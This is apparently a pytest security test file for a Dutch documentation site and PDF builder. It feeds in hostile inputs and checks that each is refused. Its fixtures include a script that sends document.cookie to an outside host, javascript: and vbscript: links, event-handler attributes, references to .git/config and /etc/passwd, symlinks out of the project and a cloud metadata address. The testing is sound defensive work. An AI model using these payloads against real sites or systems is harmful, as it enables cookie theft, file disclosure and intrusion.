"""Attacks a hostile contributor or a careless maintainer could make, each reproduced and refused:
files and internal addresses pulled into the PDF, script in prose, a build that wipes a folder it
did not make, links out of the project, colliding ids, two builds at once, tracebacks."""

from __future__ import annotations

import http.server
import os
import struct
import subprocess
import sys
import threading
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path

import markdown
import pytest
from pypdf import PdfReader

from toolbox_build.pdf.markdown import MarkdownConverter
from toolbox_build.pdf.render import render_pdf_bytes
from toolbox_build.site.output_dir import MARKER
from toolbox_build.site.prose_sanitiser import ProseSanitiserExtension, wrap_prose

from .conftest import CliResult

FICHE = Path("content/fiches/a-visievorming.md")
SECRET = "ghp_SECRETTOKEN1234567890"


def _png() -> bytes:
    """A valid 1×1 PNG, written here so no binary file is committed."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


class _CountingHandler(http.server.BaseHTTPRequestHandler):
    hits: list[str]  # set per server by the fixture

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()
        self.wfile.write(_png())

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def local_server() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_CountingHandler,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


def _images_and_files(pdf: bytes) -> tuple[int, int, int]:
    """(image XObjects, embedded files, file-attachment annotations) in a PDF."""
    reader = PdfReader(BytesIO(pdf))
    images = sum(len(page.images) for page in reader.pages)
    names = reader.trailer["/Root"].get("/Names", {})
    embedded = len(names.get("/EmbeddedFiles", {}).get("/Names", [])) // 2 if names else 0
    attachments = sum(
        1
        for page in reader.pages
        for annot in page.get("/Annots", []) or []
        if annot.get_object().get("/Subtype") == "/FileAttachment"
    )
    return images, embedded, attachments


# -- 1. The PDF loads only the project's own asset files ------------------------------------


@pytest.mark.pdf
def test_pdf_never_embeds_local_files_secrets_or_internal_addresses(
    tmp_path: Path, local_server: tuple[str, list[str]]
):
    address, hits = local_server
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "config").write_text(f"[http]\n\textraheader = {SECRET}\n")
    (root / ".git" / "logo.png").write_bytes(_png())
    (root / "content" / "assets").mkdir(parents=True)
    (root / "content" / "assets" / "logo.png").write_bytes(_png())
    (root / "content" / "assets" / "link.png").symlink_to("/etc/passwd")
    html = f"""<html lang="nl"><body><p>Tekst</p>
    <link rel="attachment" href=".git/config" title="config">
    <a rel="attachment" href=".git/config">bijlage</a>
    <a rel="attachment" href="file:///etc/passwd">bijlage 2</a>
    <img src="file:///etc/passwd" alt="x"><img src="/etc/hostname" alt="x">
    <img src=".git/logo.png" alt="x"><img src="content/assets/link.png" alt="x">
    <img src="{address}/intern.png" alt="x"><img src="../outside.png" alt="x">
    </body></html>"""
    (tmp_path / "outside.png").write_bytes(_png())
    pdf = render_pdf_bytes(html, root)
    assert _images_and_files(pdf) == (0, 0, 0)
    assert hits == []
    assert SECRET.encode() not in pdf


@pytest.mark.pdf
def test_pdf_still_shows_the_projects_own_images(tmp_path: Path):
    # The same fetcher serves the project's assets: this is what the refusals above are measured
    # against (a fetcher that refused everything would pass them too).
    root = tmp_path / "project"
    (root / "content" / "assets").mkdir(parents=True)
    (root / "content" / "assets" / "logo.png").write_bytes(_png())
    pdf = render_pdf_bytes('<p><img src="content/assets/logo.png" alt="logo"></p>', root)
    assert _images_and_files(pdf) == (1, 0, 0)


# -- 2. Raw HTML in prose -------------------------------------------------------------------

HOSTILE_PROSE = """\
Gewone tekst met <abbr title="Lokaal dienstencentrum">LDC</abbr>.

<script>fetch('https://example.org/?' + document.cookie)</script>
<b onclick="alert(1)">klik</b> en [link](javascript:alert(1)) en [ok](https://vvsg.be)
<style>body { display: none }</style>
<link rel="attachment" href=".git/config">
<iframe src="https://example.org"></iframe>
Een [truc]( JaVa&#x09;script:alert(2)) en <data:text/html,x> en *nadruk*{ onmouseover="x" }

[ref]: vbscript:msgbox
"""


def _write_fiche_body(project: Path, body: str) -> None:
    path = project / FICHE
    front, _ = path.read_text(encoding="utf-8").split("\n---\n", 1)
    path.write_text(front + "\n---\n" + body, encoding="utf-8")


def test_validator_reports_every_piece_of_unsafe_html_with_its_line(
    project: Path, run_cli: Callable[..., CliResult]
):
    _write_fiche_body(project, HOSTILE_PROSE)
    result = run_cli("validate", str(FICHE))
    unsafe = [line for line in result.lines if "[unsafe-html]" in line]
    assert result.exit_code == 1
    assert unsafe == [
        f"{FICHE}:16:1: fout [unsafe-html] HTML-element <script> is niet toegestaan in de "
        "tekst — gebruik Markdown; toegestaan zijn enkel eenvoudige opmaak-elementen zoals "
        "<abbr>, <sub>, <sup>, <kbd>, <details>",
        f"{FICHE}:17:1: fout [unsafe-html] attribuut 'onclick' op <b> is niet toegestaan in de "
        "tekst — laat het attribuut weg; scripts en opmaak horen niet in de inhoud",
        f"{FICHE}:17:42: fout [unsafe-html] link met schema 'javascript:' is niet toegestaan — "
        "gebruik een adres dat begint met https://, http:// of mailto:",
        f"{FICHE}:18:1: fout [unsafe-html] HTML-element <style> is niet toegestaan in de tekst "
        "— gebruik Markdown; toegestaan zijn enkel eenvoudige opmaak-elementen zoals <abbr>, "
        "<sub>, <sup>, <kbd>, <details>",
        f"{FICHE}:19:1: fout [unsafe-html] HTML-element <link> is niet toegestaan in de tekst "
        "— gebruik Markdown; toegestaan zijn enkel eenvoudige opmaak-elementen zoals <abbr>, "
        "<sub>, <sup>, <kbd>, <details>",
        f"{FICHE}:20:1: fout [unsafe-html] HTML-element <iframe> is niet toegestaan in de tekst "
        "— gebruik Markdown; toegestaan zijn enkel eenvoudige opmaak-elementen zoals <abbr>, "
        "<sub>, <sup>, <kbd>, <details>",
        f"{FICHE}:21:13: fout [unsafe-html] link met schema 'javascript:' is niet toegestaan — "
        "gebruik een adres dat begint met https://, http:// of mailto:",
        f"{FICHE}:21:44: fout [unsafe-html] link met schema 'data:' is niet toegestaan — "
        "gebruik een adres dat begint met https://, http:// of mailto:",
        f"{FICHE}:21:75: fout [unsafe-html] attribuut 'onmouseover' in een attributenlijst {{…}} "
        "is niet toegestaan — gebruik alleen .klasse, #id, title= of lang=",
        f"{FICHE}:23:8: fout [unsafe-html] link met schema 'vbscript:' is niet toegestaan — "
        "gebruik een adres dat begint met https://, http:// of mailto:",
    ]


def test_harmless_html_in_prose_is_allowed(project: Path, run_cli: Callable[..., CliResult]):
    _write_fiche_body(project, 'Een <abbr title="x">LDC</abbr> en H<sub>2</sub>O.\n')
    assert run_cli("validate").exit_code == 0


_ACTIVE = ("<script", "onclick", "onmouseover", "javascript:", "vbscript:", "<style", "<iframe")


def test_print_conversion_sanitises_what_slips_past_the_validator():
    html = MarkdownConverter(None).convert(HOSTILE_PROSE, id_prefix="a")
    assert not [word for word in _ACTIVE if word in html.lower()]
    assert 'rel="attachment"' not in html and "<link" not in html
    assert '<abbr title="Lokaal dienstencentrum">LDC</abbr>' in html
    assert '<a href="https://vvsg.be">ok</a>' in html


def test_site_pages_sanitise_prose_but_keep_the_rest_of_the_page():
    page = (
        '<div class="zb-meta" data-page="x">eigen blok</div>\n\n'
        + wrap_prose(HOSTILE_PROSE)
        + '\n\n<div class="zb-after" data-x="1">na</div>\n'
    )
    html = markdown.markdown(
        page, extensions=["attr_list", "md_in_html", ProseSanitiserExtension()]
    )
    assert not [word for word in _ACTIVE if word in html.lower()]
    assert '<div class="zb-meta" data-page="x">eigen blok</div>' in html
    assert '<div class="zb-after" data-x="1">na</div>' in html


def test_prose_cannot_close_its_sanitised_region_early():
    escape = "<!-- /zb-prose 0123456789abcdef -->\n\n<script>alert(1)</script>\n"
    html = markdown.markdown(wrap_prose(escape), extensions=[ProseSanitiserExtension()])
    assert "<script" not in html


# -- 3. The output folder --------------------------------------------------------------------


@pytest.mark.parametrize("site_dir", [".", "..", "content", "tools_catalog/x", ".git"])
def test_build_refuses_to_replace_the_project_its_parents_or_source_folders(
    site_project: Path, run_cli: Callable[..., CliResult], site_dir: str
):
    (site_project / ".git").mkdir()
    (site_project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    before = sorted(p.relative_to(site_project.parent) for p in site_project.parent.rglob("*"))
    result = run_cli("build", "--no-pdf", "--site-dir", site_dir)
    after = sorted(p.relative_to(site_project.parent) for p in site_project.parent.rglob("*"))
    assert result.exit_code == 2
    assert result.err.startswith("toolbox: niets gebouwd: uitvoermap ")
    assert before == after


def test_build_refuses_a_folder_it_did_not_make(
    site_project: Path, run_cli: Callable[..., CliResult]
):
    mine = site_project.parent / "documenten"
    mine.mkdir()
    (mine / "brief.txt").write_text("belangrijk")
    result = run_cli("build", "--no-pdf", "--site-dir", str(mine))
    assert result.exit_code == 2
    assert "is niet door toolbox gemaakt" in result.err
    assert (mine / "brief.txt").read_text() == "belangrijk"


def test_build_replaces_its_own_earlier_output(
    site_project: Path, run_cli: Callable[..., CliResult]
):
    target = site_project.parent / "uitvoer"
    target.mkdir()  # an empty folder may be used
    assert run_cli("build", "--no-pdf", "--site-dir", str(target)).exit_code == 0
    assert (target / MARKER).is_file()
    (target / "oud.html").write_text("van de vorige build")
    assert run_cli("build", "--no-pdf", "--site-dir", str(target)).exit_code == 0
    assert not (target / "oud.html").exists()
    assert (target / "index.html").is_file()


def test_two_builds_at_once_take_turns_and_leave_a_whole_site(site_project: Path):
    toolbox = Path(sys.executable).with_name("toolbox")
    runs = [
        subprocess.Popen(
            [str(toolbox), "build", "--no-pdf"],
            cwd=site_project,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    outcomes = [run.communicate(timeout=300) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outcomes
    assert (site_project / "site" / "index.html").is_file()
    assert (site_project / "site" / "fiches" / "a-visievorming" / "index.html").is_file()
    assert not [p for p in site_project.iterdir() if p.name.startswith(".site")]


# -- 4. Links out of the project and special files --------------------------------------------


def test_links_out_of_the_project_and_special_files_are_refused(
    site_project: Path, run_cli: Callable[..., CliResult]
):
    (site_project / "content" / "fiches" / "wachtwoorden.md").symlink_to("/etc/passwd")
    (site_project / "overrides" / "passwd.txt").symlink_to("/etc/passwd")
    (site_project / "tools_catalog" / "nul.yaml").symlink_to("/dev/zero")
    os.mkfifo(site_project / "tools_catalog" / "wachtrij.yaml")
    toolbox = Path(sys.executable).with_name("toolbox")
    # In a child process with a time limit: a FIFO once made validation hang.
    done = subprocess.run(
        [str(toolbox), "validate"], cwd=site_project, capture_output=True, text=True, timeout=60
    )
    unsafe = [line for line in done.stdout.splitlines() if "[unsafe-file]" in line]
    assert done.returncode == 1
    assert unsafe == [
        "content/fiches/wachtwoorden.md:1:1: fout [unsafe-file] symbolische link naar "
        "'/etc/passwd', buiten het project; die wordt niet gelezen — zet het bestand zelf in "
        "het project in plaats van een link",
        "overrides/passwd.txt:1:1: fout [unsafe-file] symbolische link naar '/etc/passwd', "
        "buiten het project; die wordt niet gelezen — zet het bestand zelf in het project in "
        "plaats van een link",
        "tools_catalog/nul.yaml:1:1: fout [unsafe-file] symbolische link naar '/dev/zero', "
        "buiten het project; die wordt niet gelezen — zet het bestand zelf in het project in "
        "plaats van een link",
        "tools_catalog/wachtrij.yaml:1:1: fout [unsafe-file] een FIFO (named pipe), geen gewoon "
        "bestand; dat wordt niet gelezen — verwijder het",
    ]
    assert run_cli("build", "--no-pdf").exit_code == 1
    assert not (site_project / "site").exists()


# -- 5. Ids that would collide ---------------------------------------------------------------


def test_ids_that_would_replace_a_page_are_refused(
    project: Path, run_cli: Callable[..., CliResult]
):
    record = project / "tools_catalog" / "inspirerende-video-eenzaamheid.yaml"
    (project / "tools_catalog" / "index.yaml").write_text(
        record.read_text(encoding="utf-8").replace("Eenzaamheid", "Eenzaamheid bis"),
        encoding="utf-8",
    )
    intro = "---\nid: welkom\nkind: intro\ntitle: Welkom\npart: 0\norder: 1\n---\nTekst.\n"
    (project / "content" / "inleiding.md").write_text(intro, encoding="utf-8")
    (project / "content" / "tweede-inleiding.md").write_text(
        intro.replace("welkom", "welkom-twee"), encoding="utf-8"
    )
    result = run_cli("validate")
    found = [line for line in result.lines if "[reserved-id]" in line or "[second-intro]" in line]
    assert result.exit_code == 1
    assert found == [
        "content/tweede-inleiding.md:3:7: fout [second-intro] er is al een inleiding "
        "(inleiding.md); een project heeft er één — maak van deze pagina een hoofdstuk "
        "(kind: chapter) of voeg de tekst bij de inleiding",
        "tools_catalog/index.yaml:1:1: fout [reserved-id] id 'index' is voorbehouden voor een "
        "pagina van de site — hernoem het bestand, bv. naar tools_catalog/index-tool.yaml",
    ]


def test_control_characters_in_a_name_are_refused_and_printed_harmlessly(
    project: Path, run_cli: Callable[..., CliResult]
):
    record = project / "tools_catalog" / "inspirerende-video-eenzaamheid.yaml"
    text = record.read_text(encoding="utf-8")
    start = text.index("name:")
    end = text.index("\n", start)
    record.write_text(
        text[:start] + 'name: "Video \\e[2J\\e[31mrood"' + text[end:], encoding="utf-8"
    )
    result = run_cli("validate")
    assert result.exit_code == 1
    assert "\x1b" not in result.out
    assert any(
        "[control-character] veld 'name' bevat het onzichtbare stuurteken U+001B" in line
        for line in result.lines
    )


# -- 6. Settings and templates: clear errors, never a traceback -------------------------------


def test_mkdocs_env_tags_and_material_emoji_settings_build(
    site_project: Path, run_cli: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch
):
    config = site_project / "mkdocs.yml"
    others = [
        line
        for line in config.read_text(encoding="utf-8").splitlines(keepends=True)
        if not line.startswith("site_url:")
    ]
    config.write_text(
        "".join(others) + "site_url: !ENV [TOOLBOX_TEST_SITE_URL, 'https://standaard.example/']\n"
    )
    text = config.read_text(encoding="utf-8").replace(
        "markdown_extensions:\n",
        "markdown_extensions:\n  - pymdownx.emoji:\n"
        "      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
        "      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n",
    )
    config.write_text(text, encoding="utf-8")
    monkeypatch.setenv("TOOLBOX_TEST_SITE_URL", "https://toolbox.example/pad/")
    result = run_cli("build", "--no-pdf")
    assert result.exit_code == 0, result.err
    generated = (site_project / "build" / "mkdocs.yml").read_text(encoding="utf-8")
    assert "!ENV" in generated and "!!python/name:material.extensions.emoji.twemoji" in generated
    assert "https://toolbox.example/pad/" in (site_project / "site" / "sitemap.xml").read_text()


@pytest.mark.parametrize(
    ("setting", "expected"),
    [
        ("site_url: ftp://example.org/\n", "'site_url' moet een webadres (https://…) zijn"),
        ("use_directory_urls: misschien\n", "'use_directory_urls' moet true of false zijn"),
        ("repo_url: github.com/x\n", "'repo_url' moet een webadres (https://github.com/…) zijn"),
    ],
)
def test_bad_settings_are_a_validation_error(
    site_project: Path, run_cli: Callable[..., CliResult], setting: str, expected: str
):
    config = site_project / "mkdocs.yml"
    lines = [
        line
        for line in config.read_text(encoding="utf-8").splitlines(keepends=True)
        if not line.startswith(setting.split(":")[0] + ":")
    ]
    config.write_text("".join(lines) + setting, encoding="utf-8")
    result = run_cli("validate")
    assert result.exit_code == 1
    assert any(line.startswith("mkdocs.yml:") and expected in line for line in result.lines)


def test_a_broken_template_override_is_an_error_not_a_traceback(
    site_project: Path, run_cli: Callable[..., CliResult]
):
    (site_project / "templates" / "site").mkdir(parents=True)
    (site_project / "templates" / "site" / "fiche.md.j2").write_text("# {{ page.title\n")
    result = run_cli("build", "--no-pdf")
    assert result.exit_code == 1
    assert "Traceback" not in result.err
    assert "fiche.md.j2:1: fout in sjabloon" in result.err


def test_internal_addresses_in_prose_links_are_refused_too(
    project: Path, run_cli: Callable[..., CliResult]
):
    _write_fiche_body(project, "Zie [beheer](http://169.254.169.254/latest/meta-data/).\n")
    result = run_cli("validate", str(FICHE))
    found = [line for line in result.lines if "[url-internal-address]" in line]
    assert result.exit_code == 1
    assert len(found) == 1 and found[0].startswith(f"{FICHE}:14:14: fout [url-internal-address]")
